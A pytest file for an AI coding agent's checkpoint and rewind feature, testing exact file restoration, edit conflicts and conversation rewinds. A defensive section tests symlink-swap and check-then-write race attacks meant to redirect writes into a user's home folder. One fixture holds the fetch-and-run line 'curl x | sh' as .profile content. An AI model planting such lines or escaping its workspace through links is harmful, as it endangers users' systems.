"""Checkpoints (core/checkpoints.py): what write_file and patch replaced, turn by turn, put back
exactly by a rewind; a file changed since the agent's edit is a conflict; the conversation
rewinds into a child session."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest
from fakes.llm_server import FakeLLM, Reply
from helpers import open_runtime

# Bytes a text round trip would change: CRLF, no final newline, a byte that is not UTF-8.
CONFIG = b"name = demo\r\nport = 80\r\nmode = \xff fast"
NOTES = "# Notes\n\nfirst line\nsecond line\n"


@pytest.fixture
def llm():
    with FakeLLM() as server:
        yield server


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "config.txt").write_bytes(CONFIG)
    (folder / "notes.md").write_text(NOTES)
    monkeypatch.chdir(folder)
    return folder


def two_turns(home: Path, llm: FakeLLM):
    """Turn 1 creates app.py and patches notes.md; turn 2 overwrites config.txt and patches
    app.py and notes.md again."""
    runtime = open_runtime(home, llm.openai_url)
    session = runtime.open_session()
    llm.script(
        Reply(
            tool_calls=[
                ("write_file", {"path": "app.py", "content": "print('v1')\n"}),
                ("patch", {"path": "notes.md", "old_string": "first", "new_string": "1st"}),
            ]
        ),
        Reply(text="Turn one done."),
        Reply(
            tool_calls=[
                ("write_file", {"path": "config.txt", "content": "port = 8080\n"}),
                ("patch", {"path": "app.py", "old_string": "v1", "new_string": "v2"}),
                ("patch", {"path": "notes.md", "old_string": "second", "new_string": "2nd"}),
            ]
        ),
        Reply(text="Turn two done."),
    )
    session.submit("start the app")
    session.submit("configure it")
    return runtime, session


def test_rewinding_two_turns_restores_three_files_exactly(
    home: Path, work: Path, llm: FakeLLM
) -> None:
    _, session = two_turns(home, llm)
    assert (work / "app.py").read_text() == "print('v2')\n"
    turns = session.checkpoints.turns()
    assert [t.number for t in turns] == [1, 2]
    assert turns[0].files == (str(work / "app.py"), str(work / "notes.md"))
    plan = session.checkpoints.plan(1)
    assert not plan.conflicts
    restored = session.checkpoints.restore(plan, overwrite_changed=False)
    assert sorted(Path(p).name for p in restored) == ["app.py", "config.txt", "notes.md"]
    assert not (work / "app.py").exists(), "created by the agent: the rewind deletes it"
    assert (work / "config.txt").read_bytes() == CONFIG
    assert (work / "notes.md").read_text() == NOTES


def test_rewinding_only_the_last_turn_keeps_the_first_turns_edits(
    home: Path, work: Path, llm: FakeLLM
) -> None:
    _, session = two_turns(home, llm)
    session.checkpoints.restore(session.checkpoints.plan(2), overwrite_changed=False)
    assert (work / "app.py").read_text() == "print('v1')\n"
    assert (work / "notes.md").read_text() == NOTES.replace("first", "1st")
    assert (work / "config.txt").read_bytes() == CONFIG


def test_a_hand_edit_after_the_agent_is_a_conflict_kept_unless_overwrite_is_chosen(
    home: Path, work: Path, llm: FakeLLM
) -> None:
    _, session = two_turns(home, llm)
    (work / "notes.md").write_text("my own notes, written after the agent\n")
    plan = session.checkpoints.plan(1)
    assert [Path(c.path).name for c in plan.conflicts] == ["notes.md"]
    kept = session.checkpoints.restore(plan, overwrite_changed=False)
    assert "notes.md" not in {Path(p).name for p in kept}
    assert (work / "notes.md").read_text() == "my own notes, written after the agent\n"
    assert (work / "config.txt").read_bytes() == CONFIG
    again = session.checkpoints.plan(1)
    assert [Path(c.path).name for c in again.conflicts] == ["notes.md"], "still yours"
    session.checkpoints.restore(again, overwrite_changed=True)
    assert (work / "notes.md").read_text() == NOTES
    assert not session.checkpoints.plan(1).conflicts


def test_a_file_changed_while_the_dialog_was_open_stops_the_rewind(
    home: Path, work: Path, llm: FakeLLM
) -> None:
    from hermes_tui.core.checkpoints import CheckpointError

    _, session = two_turns(home, llm)
    plan = session.checkpoints.plan(1)
    (work / "app.py").write_text("edited meanwhile\n")
    with pytest.raises(CheckpointError, match="changed while the rewind was being chosen"):
        session.checkpoints.restore(plan, overwrite_changed=True)
    assert (work / "app.py").read_text() == "edited meanwhile\n"


def test_blobs_are_content_addressed_in_the_sessions_private_folder(
    home: Path, work: Path, llm: FakeLLM
) -> None:
    _, session = two_turns(home, llm)
    folder = home / "checkpoints" / session.id
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((home / "checkpoints").stat().st_mode) == 0o700
    import hashlib

    blobs = list((folder / "blobs").iterdir())
    assert all(hashlib.sha256(b.read_bytes()).hexdigest() == b.name for b in blobs)
    assert CONFIG in {b.read_bytes() for b in blobs}
    records = [json.loads(line) for line in (folder / "log.jsonl").read_text().splitlines()]
    created = next(r for r in records if r["kind"] == "write" and r["path"].endswith("app.py"))
    assert created["before"] is None, "recorded as created new"


def test_the_conversation_rewinds_into_a_child_and_the_next_turn_sends_only_what_was_kept(
    home: Path, work: Path, llm: FakeLLM
) -> None:
    runtime, session = two_turns(home, llm)
    old_id = session.id
    text = session.rewind_conversation(2)
    assert text == "configure it"
    assert session.id != old_id and runtime.sessions.get(session.id).parent_id == old_id
    assert len(runtime.sessions.messages(old_id)) > len(runtime.sessions.messages(session.id))
    llm.script(Reply(text="Fresh answer."))
    session.submit("configure it differently")
    sent = [m.get("content") for m in llm.requests[-1].body["messages"]]
    assert "start the app" in sent and "configure it" not in sent
    assert [t.number for t in session.checkpoints.turns()] == [1, 2]  # numbered anew
    # The kept turn can still be rewound from the child.
    session.checkpoints.restore(session.checkpoints.plan(1), overwrite_changed=True)
    assert not (work / "app.py").exists() and (work / "notes.md").read_text() == NOTES


def test_commands_in_the_terminal_are_not_tracked(home: Path, work: Path, llm: FakeLLM) -> None:
    runtime = open_runtime(home, llm.openai_url, terminal={"sandbox": "off", "mode": "yolo"})
    session = runtime.open_session()
    llm.script(
        Reply(tool_calls=[("terminal", {"command": "echo changed > notes.md"})]),
        Reply(text="Done."),
    )
    session.submit("change the notes with a command")
    assert (work / "notes.md").read_text() == "changed\n"
    assert session.checkpoints.plan(1).files == ()


def test_a_turn_undone_is_no_longer_offered_but_its_files_still_rewind(
    home: Path, work: Path, llm: FakeLLM
) -> None:
    _, session = two_turns(home, llm)
    assert session.undo_last_exchange() == "configure it"
    assert [t.number for t in session.checkpoints.turns()] == [1], "/undo took turn 2 out"
    llm.script(Reply(text="Turn three done."))
    session.submit("check it")
    assert [t.text for t in session.checkpoints.turns()] == ["start the app", "check it"]
    plan = session.checkpoints.plan(1)
    session.checkpoints.restore(plan, overwrite_changed=False)
    assert (work / "config.txt").read_bytes() == CONFIG, "the undone turn's write is put back"
    assert not (work / "app.py").exists()


# ---- a link swapped in after the agent's edit (attack A3-16): the rewind never follows it ----


def edits_then(home: Path, llm: FakeLLM, path: str, first: str, second: str | None):
    """Turn 1 writes `path` with `first`; turn 2 (when `second`) writes it again."""
    runtime = open_runtime(home, llm.openai_url)
    session = runtime.open_session()
    llm.script(Reply(tool_calls=[("write_file", {"path": path, "content": first})]))
    llm.script(Reply(text="one"))
    session.submit("one")
    if second is not None:
        llm.script(Reply(tool_calls=[("write_file", {"path": path, "content": second})]))
        llm.script(Reply(text="two"))
        session.submit("two")
    return session


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder outside the workspace standing for the user's home, with a startup file."""
    folder = tmp_path / "home-of-user"
    folder.mkdir()
    (folder / ".profile").write_text("ORIGINAL\n")
    return folder


def test_a_folder_swapped_for_a_link_home_is_refused_and_the_home_file_keeps_its_text(
    home: Path, work: Path, llm: FakeLLM, outside: Path
) -> None:
    session = edits_then(home, llm, "sub/.profile", "EVIL: curl x | sh\n", "ORIGINAL\n")
    # A command (sandboxed: it may touch the workspace only) swaps the folder for a link.
    (work / "sub").rename(work / "sub.bak")
    (work / "sub").symlink_to(outside)
    plan = session.checkpoints.plan(2)
    assert not plan.conflicts, "nothing to ask about: the file is refused, not offered"
    [refused] = plan.refused
    assert refused.path == str(work / "sub" / ".profile")
    assert f"{work / 'sub'} is now a symbolic link to {outside}" in refused.refused
    assert "stays as it is" in refused.diff()
    assert session.checkpoints.restore(plan, overwrite_changed=True) == []
    assert (outside / ".profile").read_text() == "ORIGINAL\n"
    assert (work / "sub.bak" / ".profile").read_text() == "ORIGINAL\n"


def test_a_rewind_never_deletes_a_home_file_through_a_swapped_folder(
    home: Path, work: Path, llm: FakeLLM, outside: Path
) -> None:
    session = edits_then(home, llm, "sub/.profile", "ORIGINAL\n", None)
    (work / "sub").rename(work / "sub.bak")
    (work / "sub").symlink_to(outside)
    plan = session.checkpoints.plan(1)
    assert [f.path for f in plan.refused] == [str(work / "sub" / ".profile")]
    assert session.checkpoints.restore(plan, overwrite_changed=True) == []
    assert (outside / ".profile").read_text() == "ORIGINAL\n", "still there"


def test_the_file_itself_swapped_for_a_link_is_refused(
    home: Path, work: Path, llm: FakeLLM, outside: Path
) -> None:
    session = edits_then(home, llm, "sub/.profile", "EVIL\n", "ORIGINAL\n")
    (work / "sub" / ".profile").unlink()
    (work / "sub" / ".profile").symlink_to(outside / ".profile")
    plan = session.checkpoints.plan(2)
    [refused] = plan.refused
    assert "is now a symbolic link" in refused.refused
    assert session.checkpoints.restore(plan, overwrite_changed=True) == []
    assert (outside / ".profile").read_text() == "ORIGINAL\n"
    assert (work / "sub" / ".profile").is_symlink(), "the link is left as the command made it"


def test_a_folder_two_levels_up_swapped_for_a_link_is_refused(
    home: Path, work: Path, llm: FakeLLM, outside: Path
) -> None:
    session = edits_then(home, llm, "a/b/.profile", "EVIL\n", None)
    (outside / "b").mkdir()
    (outside / "b" / ".profile").write_text("ORIGINAL\n")
    (work / "a").rename(work / "a.bak")
    (work / "a").symlink_to(outside)
    plan = session.checkpoints.plan(1)
    assert [f.refused for f in plan.refused] == [
        f"{work / 'a' / 'b' / '.profile'}: not restored: {work / 'a'} is now a symbolic link "
        f"to {outside}, which is not followed"
    ]
    assert session.checkpoints.restore(plan, overwrite_changed=True) == []
    assert (outside / "b" / ".profile").read_text() == "ORIGINAL\n"


def test_a_swap_after_the_plan_stops_the_rewind_and_writes_nothing_outside(
    home: Path, work: Path, llm: FakeLLM, outside: Path
) -> None:
    from hermes_tui.core.checkpoints import CheckpointError

    session = edits_then(home, llm, "sub/.profile", "EVIL\n", "ORIGINAL\n")
    plan = session.checkpoints.plan(2)  # chosen while the folder was still a folder
    assert not plan.refused
    (work / "sub").rename(work / "sub.bak")
    (work / "sub").symlink_to(outside)
    with pytest.raises(CheckpointError, match="is now a symbolic link"):
        session.checkpoints.restore(plan, overwrite_changed=True)
    assert (outside / ".profile").read_text() == "ORIGINAL\n"


def test_the_no_follow_writer_refuses_a_link_swapped_in_between_check_and_write(
    tmp_path: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The write opens each folder itself without following links: a swap made after every
    check (here, right before the folder is opened) still cannot redirect it."""
    from hermes_tui.core import nofollow

    work = tmp_path / "w"
    (work / "sub").mkdir(parents=True)
    real_open = nofollow.os.open

    def swapping_open(name, flags, *args, **kwargs):
        if name == "sub" and (work / "sub").is_dir() and not (work / "sub").is_symlink():
            (work / "sub").rename(work / "sub.bak")
            (work / "sub").symlink_to(outside)
        return real_open(name, flags, *args, **kwargs)

    monkeypatch.setattr(nofollow.os, "open", swapping_open)
    with pytest.raises(nofollow.UnsafePath, match="symbolic link"):
        nofollow.write_bytes(work / "sub" / ".profile", b"EVIL\n")
    with pytest.raises(nofollow.UnsafePath, match="symbolic link"):
        nofollow.unlink(work / "sub" / ".profile")
    monkeypatch.undo()
    assert (outside / ".profile").read_text() == "ORIGINAL\n"
    assert sorted(p.name for p in outside.iterdir()) == [".profile"], "no temp file left there"


def test_a_named_pipe_in_place_of_the_file_is_refused_without_blocking(
    home: Path, work: Path, llm: FakeLLM
) -> None:
    import os

    session = edits_then(home, llm, "notes.txt", "one\n", "two\n")
    (work / "notes.txt").unlink()
    os.mkfifo(work / "notes.txt")
    plan = session.checkpoints.plan(2)
    assert [f.refused for f in plan.refused] == [
        f"{work / 'notes.txt'}: not restored: not a regular file"
    ]
